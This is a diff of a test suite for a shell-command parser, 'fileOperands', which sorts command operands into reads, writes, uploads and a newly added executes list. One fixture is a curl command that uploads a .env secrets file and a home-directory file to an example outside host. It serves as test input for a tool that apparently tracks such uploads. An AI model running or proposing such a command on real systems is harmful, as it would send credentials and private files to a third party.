@@ -240,16 +240,30 @@ describe('fileOperands', () => {
         },
       ),
     ).toEqual([
-      { program: 'cat', text: 'cat a.txt', reads: ['/w/a.txt'], writes: [], uploads: [] },
+      { program: 'cat', text: 'cat a.txt', reads: ['/w/a.txt'], writes: [], uploads: [], executes: [] },
       {
         program: 'curl',
         text: 'curl -d @.env -T ~/x https://up.example/x -o out.json',
         reads: [],
         writes: ['/w/out.json'],
         uploads: ['/w/.env', '/home/u/x'],
+        executes: [],
       },
-      { program: 'scp', text: 'scp b.tgz h:/srv/', reads: [], writes: [], uploads: ['/w/b.tgz'] },
+      {
+        program: 'scp',
+        text: 'scp b.tgz h:/srv/',
+        reads: [],
+        writes: [],
+        uploads: ['/w/b.tgz'],
+        executes: [],
+      },
     ]);
+  });
+
+  it('names a program run by its path', () => {
+    expect(
+      fileOperands('./scripts/build.sh --fast && /usr/bin/env true', '/w').map((c) => c.executes),
+    ).toEqual([['/w/scripts/build.sh'], []]);
   });
 
   it('never turns a URL into a path, and leaves ~ out without a home', () => {
